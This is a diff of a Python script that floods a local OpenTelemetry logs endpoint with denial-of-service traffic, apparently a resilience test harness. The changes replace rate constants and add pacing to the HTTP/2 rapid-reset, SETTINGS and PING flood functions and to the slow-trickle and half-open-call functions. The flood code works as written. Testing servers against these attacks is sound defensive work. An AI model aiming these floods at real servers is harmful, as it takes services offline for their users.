@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import contextlib
 import itertools
+import math
 import select
 import socket
 import struct
@@ -18,9 +19,9 @@ CROWD = 1200  # slow ones at a time: more than there is room for
 FLOOD = 10_000  # connections,
 OPENED = 2500  # at most so many a second
 STREAMS = 10_000
-RATE = (
-    50  # parts a second, of 200 frames or streams each: 10,000 a second. More tells how fast the attacker is.
-)
+# Frames a second, sent in parts of so many. More tells how fast the attacker is.
+FRAMES, PART = 10_000, 200
+CALLS = 16  # at a time on one connection: as many as it may have
 EXPORT = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
 POST = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"
 
@@ -72,9 +73,14 @@ def greeted(port: int) -> socket.socket:
 
 
 def _trickle(
-    port: int, first: bytes, part: bytes, *, opened: Callable[[int], socket.socket] = connected
+    port: int,
+    first: bytes,
+    part: bytes,
+    *,
+    opened: Callable[[int], socket.socket] = connected,
+    pace: float = math.inf,
 ) -> None:
-    """A crowd that sends something, then a little each second; who is closed comes again."""
+    """A crowd that sends something, then a little each second; who is closed comes again. pace: new ones a second."""
     peers: list[socket.socket] = []
     while True:
         began = time.monotonic()
@@ -91,13 +97,14 @@ def _trickle(
                 peer.send(first)
             except OSError:
                 break
+            time.sleep(1 / pace)
         time.sleep(max(0.0, 1 - (time.monotonic() - began)))
 
 
 def _hammer(
     port: int, parts: Callable[[], Iterator[bytes]], opened: Callable[[int], socket.socket] = greeted
 ) -> None:
-    """Sends RATE parts a second and reads next to nothing; when it is closed, comes again."""
+    """Sends FRAMES a second and reads next to nothing; when it is closed, comes again."""
     while True:
         with contextlib.suppress(OSError), opened(port) as peer:
             peer.settimeout(1)
@@ -105,7 +112,7 @@ def _hammer(
                 peer.sendall(part)
                 if select.select([peer], [], [], 0)[0]:
                     peer.recv(1 << 20)
-                time.sleep(1 / RATE)
+                time.sleep(PART / FRAMES)
         time.sleep(0.01)
 
 
@@ -165,10 +172,10 @@ def rapid_reset(port: int) -> None:
     head = block()
 
     def parts() -> Iterator[bytes]:
-        for stream in range(1, 2 * STREAMS, 200):
+        for stream in range(1, 2 * STREAMS, PART):
             yield b"".join(
                 frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, struct.pack(">I", 8))
-                for n in range(stream, stream + 200, 2)
+                for n in range(stream, stream + PART, 2)
             )
 
     _hammer(port, parts)
@@ -190,12 +197,12 @@ def continuations(port: int) -> None:
 
 def settings(port: int) -> None:
     """SETTINGS, each of which asks for an ACK."""
-    _hammer(port, lambda: itertools.repeat(frame(SETTINGS) * 200))
+    _hammer(port, lambda: itertools.repeat(frame(SETTINGS) * PART))
 
 
 def pings(port: int) -> None:
     """PINGs, the same."""
-    _hammer(port, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 200))
+    _hammer(port, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * PART))
 
 
 def half_calls(port: int) -> None:
@@ -204,11 +211,11 @@ def half_calls(port: int) -> None:
     def opened(port: int) -> socket.socket:
         peer = greeted(port)
         begun = message(b"x" * 1000)[:100]
-        for stream in range(1, 33, 2):
+        for stream in range(1, 2 * CALLS, 2):
             peer.sendall(frame(HEADERS, END_HEADERS, stream, block()) + frame(DATA, 0, stream, begun))
         return peer
 
-    _trickle(port, b"", frame(DATA, 0, 1, b"x"), opened=opened)
+    _trickle(port, b"", frame(DATA, 0, 1, b"x"), opened=opened, pace=FRAMES / (2 * CALLS))
 
 
 # name -> (the door, the attack)
